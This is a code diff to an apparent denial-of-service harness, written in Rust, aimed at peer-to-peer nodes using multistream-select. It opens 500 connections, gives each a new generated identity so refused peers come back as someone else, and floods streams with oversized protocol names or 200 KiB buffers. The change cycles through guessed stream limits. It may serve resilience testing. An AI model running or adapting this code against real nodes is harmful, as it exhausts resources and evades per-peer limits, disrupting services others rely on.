@@ -20,7 +20,9 @@ const TAKEN: usize = 128;
 const MUCH: usize = 200 << 10;
 /// Connections of a crowd: about what a node lets in. They are made while the attack lasts.
 const CROWD: usize = 500;
-/// Streams of each of a crowd that bring something; before them it opens those that a node takes.
+/// Streams that each of a crowd opens first, so that a node takes no more: nobody knows how many that are.
+const FIRST: [usize; 4] = [4, 6, 16, 64];
+/// Streams of each of a crowd that bring something after them.
 const HOARDED: usize = 8;
 /// The longest name that multistream-select can announce.
 const NAME: usize = (16 << 10) - 1;
@@ -32,14 +34,14 @@ const PROTOCOLS: [&str; 3] = ["/peer/1.1.0", "/peer/1.1.0/hop", "/peer/1.0.0"];
 pub(super) async fn begin(attack: Attack, attempt: &Attempt) -> Result<Tasks, Failure> {
     let mut tasks = Tasks::new();
     if matches!(attack, Attack::Hoard | Attack::LongNames) {
-        for _ in 0..CROWD {
+        for first in FIRST.into_iter().cycle().take(CROWD) {
             let attempt = attempt.clone();
             tasks.spawn(async move {
                 loop {
                     // One that is closed, or not let in, comes again as somebody else.
                     let line = Line::open(&attempt.source, &Keypair::generate_ed25519()).await;
                     if let Ok(line) = line {
-                        let _ = leave(attack, &line, &attempt).await;
+                        let _ = leave(attack, first, &line, &attempt).await;
                     }
                     tokio::time::sleep(PAUSE).await;
                 }
@@ -59,7 +61,7 @@ pub(super) async fn begin(attack: Attack, attempt: &Attempt) -> Result<Tasks, Fa
 }
 
 /// Leaves as much as it can on one connection.
-async fn leave(attack: Attack, line: &Line, attempt: &Attempt) -> io::Result<()> {
+async fn leave(attack: Attack, first: usize, line: &Line, attempt: &Attempt) -> io::Result<()> {
     let mut held = Vec::new();
     let mut name = b"\x13/multistream/1.0.0\n\xff\x7f".to_vec();
     name.resize(name.len() + NAME - 1, b'/');
@@ -67,9 +69,9 @@ async fn leave(attack: Attack, line: &Line, attempt: &Attempt) -> io::Result<()>
         Attack::Hoard => (b"\x13", &[0; MUCH]),
         _ => (&name, &name),
     };
-    for number in 0..TAKEN + HOARDED {
+    for number in 0..first + HOARDED {
         attempt.turn().await;
-        let bytes = if number < TAKEN { few } else { much };
+        let bytes = if number < first { few } else { much };
         let mut stream = line.stream().await?;
         // One that is refused is held all the same, and one that is not read blocks nobody.
         let writing = async {
